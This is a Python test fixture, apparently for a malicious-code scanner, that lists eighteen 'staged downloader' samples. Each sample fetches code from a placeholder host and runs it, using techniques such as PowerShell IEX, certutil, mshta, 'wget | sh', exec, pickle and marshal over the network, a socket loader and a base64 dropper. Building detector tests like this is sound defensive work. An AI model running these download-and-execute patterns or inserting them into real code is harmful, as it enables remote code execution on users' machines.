"""Staged downloaders: fetch, write, run; fetch and run."""

from tests.malicious.making import HOST, Sample, b64, imported

FAMILY = "staged downloaders"


def samples() -> list[Sample]:
    """All of the family."""

    def sample(name: str, text: str, **more: str) -> Sample:
        return imported(FAMILY, name, text, **more)

    return [
        sample(
            "urlretrieve and Popen",
            "import os, tempfile, urllib.request, subprocess\n"
            "path = os.path.join(tempfile.gettempdir(), 'update.exe')\n"
            f"urllib.request.urlretrieve('{HOST}/u.exe', path)\nsubprocess.Popen([path])\n",
        ),
        sample(
            "requests, open, startfile",
            f"import os, requests\nr = requests.get('{HOST}/p.exe')\n"
            "with open('p.exe', 'wb') as f:\n    f.write(r.content)\nos.startfile('p.exe')\n",
        ),
        sample(
            "temporary file and interpreter",
            "import sys, subprocess, tempfile\nfrom urllib.request import urlopen\n"
            "t = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\n"
            f"t.write(urlopen('{HOST}/second.py').read())\nt.close()\n"
            "subprocess.Popen([sys.executable, t.name])\n",
        ),
        sample(
            "thread",
            "import threading\ndef work():\n    import urllib.request\n"
            f"    code = urllib.request.urlopen('{HOST}').read().decode()\n    exec(code)\n"
            "threading.Thread(target=work, daemon=True).start()\n",
        ),
        sample(
            "other module runs it",
            "from .core import start\nstart()\n",
            core="import httpx\ndef fetch(url):\n    return httpx.get(url).text\ndef start():\n"
            f"    eval(compile(fetch('{HOST}/x'), 'x', 'exec'))\n",
        ),
        sample(
            "class with a method",
            "import urllib.request, subprocess\nclass Loader:\n    def __init__(self, url):\n"
            "        self.url = url\n        self.run()\n    def run(self):\n"
            "        data = urllib.request.urlopen(self.url).read()\n"
            "        with open('/tmp/.x', 'wb') as f:\n            f.write(data)\n"
            "        subprocess.call(['chmod', '+x', '/tmp/.x'])\n"
            f"        subprocess.call(['/tmp/.x'])\nLoader('{HOST}/elf')\n",
        ),
        sample(
            "powershell",
            "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -Command "
            f"\"IEX (New-Object Net.WebClient).DownloadString(\\'{HOST}/s.ps1\\')\"', shell=True)\n",
        ),
        sample("certutil", f"import os\nos.system('certutil -urlcache -f {HOST}/a.exe a.exe')\n"),
        sample("mshta", f"import os\nos.popen('mshta {HOST}/a.hta')\n"),
        sample(
            "wget and sh by list",
            f"import subprocess\nsubprocess.run(['sh', '-c', 'wget -qO- {HOST}/i.sh | sh'])\n",
        ),
        sample(
            "python -c of a string",
            "import subprocess, sys\ncode = 'import urllib.request;"
            f'exec(urllib.request.urlopen("{HOST}").read())\'\n'
            "subprocess.Popen([sys.executable, '-c', code], stdout=subprocess.DEVNULL)\n",
        ),
        sample(
            "socket as a loader",
            "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\n"
            "exec(s.recv(65536))\n",
        ),
        sample(
            "marshal over the network",
            f"import marshal, requests\nexec(marshal.loads(requests.get('{HOST}/m').content))\n",
        ),
        sample(
            "pickle over the network",
            f"import pickle, urllib.request as u\npickle.loads(u.urlopen('{HOST}/p').read())\n",
        ),
        sample(
            "library over the network",
            "import ctypes, urllib.request\n"
            f"urllib.request.urlretrieve('{HOST}/l.so', '/tmp/l.so')\nctypes.CDLL('/tmp/l.so')\n",
        ),
        sample(
            "paste as address book",
            "import requests\nwhere = requests.get('https://pastebin.com/raw/abcdefgh').text\n"
            "exec(requests.get(where).text)\n",
        ),
        sample(
            "async",
            "import asyncio, aiohttp\nasync def main():\n"
            "    async with aiohttp.ClientSession() as session:\n"
            f"        async with session.get('{HOST}') as answer:\n"
            "            exec(await answer.text())\nasyncio.run(main())\n",
        ),
        sample(
            "dropped from base64",
            "import base64, os, subprocess\n"
            f"data = base64.b64decode('{b64('MZ not a program')}')\n"
            "path = os.path.join(os.environ['TEMP'], 'svc.exe')\n"
            "with open(path, 'wb') as f:\n    f.write(data)\nsubprocess.Popen(path)\n",
        ),
    ]
